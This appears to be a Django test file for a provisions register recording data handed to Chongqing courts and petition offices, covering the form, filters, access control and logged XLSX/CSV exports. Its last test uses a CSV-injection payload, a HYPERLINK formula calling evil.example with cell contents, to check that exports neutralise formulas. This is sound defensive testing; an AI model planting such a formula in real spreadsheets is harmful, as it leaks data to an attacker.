"""Provisions register pages: the form, the list with filters, the XLSX and CSV exports."""

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from quancheng.access.models import Provision
from quancheng.access.provisions import HEADER, register_provision
from quancheng.ledger.models import Event

from .extraction_setup import *  # noqa: F403
from .extraction_setup import refs

pytestmark = pytest.mark.django_db


def _client(user, csrf=False):
    client = Client(enforce_csrf_checks=csrf)
    client.force_login(user)
    return client


@pytest.fixture
def two(custodian, head, act, act_items):
    made = []
    for recipient, kind in (("重庆市第五中级人民法院", "judicial"), ("渝中区信访办", "petition")):
        made.append(
            register_provision(
                custodian,
                recipient=recipient,
                recipient_kind=kind,
                legal_basis="依申请调取",
                approved_by=head,
                provided_on=timezone.localdate(),
                act=act,
                items=refs(act_items[:1]),
            )
        )
    return made


def test_the_form_registers_a_provision(custodian, head, act, act_items):
    client = _client(custodian, csrf=True)
    url = reverse("extraction:provision_new") + f"?act={act.pk}"
    page = client.get(url).content.decode()
    assert f'<option value="{head.pk}">刘洋</option>' in page
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    response = client.post(
        url,
        {
            "csrfmiddlewaretoken": token,
            "act": act.pk,
            "recipient": "重庆市渝中区人民法院",
            "recipient_kind": "judicial",
            "legal_basis": "行政诉讼法第三十四条",
            "approved_by": head.pk,
            "provided_on": timezone.localdate().isoformat(),
            "items": [f"segment:{act_items[0].pk}"],
        },
    )
    provision = Provision.objects.get()
    assert response.status_code == 302 and response.url == provision.get_absolute_url()
    detail = client.get(response.url).content.decode()
    assert "重庆市渝中区人民法院" in detail and "刘洋" in detail


def test_a_bad_form_shows_the_chinese_error_and_registers_nothing(custodian, act, act_items):
    response = _client(custodian).post(
        reverse("extraction:provision_new"),
        {"act": act.pk, "recipient": "法院", "recipient_kind": "judicial", "legal_basis": "x"},
    )
    assert response.status_code == 400
    assert "批准人应为本机构负责人" in response.content.decode()
    assert not Provision.objects.exists()


def test_the_list_filters_and_the_outsider_sees_none(custodian, outsider, two):
    client = _client(custodian)
    url = reverse("extraction:provision_list")
    page = client.get(url).content.decode()
    assert "重庆市第五中级人民法院" in page and "渝中区信访办" in page
    page = client.get(url, {"recipient_kind": "petition"}).content.decode()
    assert "重庆市第五中级人民法院" not in page and "渝中区信访办" in page
    assert "format=csv&amp;recipient_kind=petition" in page
    other = _client(outsider)
    assert "渝中区信访办" not in other.get(url).content.decode()
    assert other.get(two[0].get_absolute_url()).status_code == 404


def test_exports_stream_xlsx_and_csv_with_the_filters_and_are_logged(custodian, two):
    client = _client(custodian)
    url = reverse("extraction:provision_export")
    response = client.get(url, {"format": "xlsx"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER and len(rows) == 3
    response = client.get(url, {"format": "csv", "recipient_kind": "judicial"})
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert len(parsed) == 2 and parsed[1][2] == "重庆市第五中级人民法院"
    exports = Event.objects.filter(action="provision.exported").order_by("seq")
    assert [e.actor for e in exports] == [custodian, custodian]
    assert '"recipient_kind":"judicial"' in exports.last().body
    assert client.get(url, {"format": "pdf"}).status_code == 404


def test_exports_neutralise_cells_that_would_run_as_formulas(custodian, head, act, act_items):
    """OWASP CSV injection: a recipient typed as a formula is exported as text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    register_provision(
        custodian,
        recipient=formula,
        recipient_kind="judicial",
        legal_basis="@SUM(1+1)",
        approved_by=head,
        provided_on=timezone.localdate(),
        act=act,
        items=refs(act_items[:1]),
    )
    client = _client(custodian)
    url = reverse("extraction:provision_export")
    response = client.get(url, {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert "'" + formula in row and "'@SUM(1+1)" in row
    response = client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c.value for c in list(sheet.iter_rows())[1]]
    assert "'" + formula in cells and formula not in cells
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
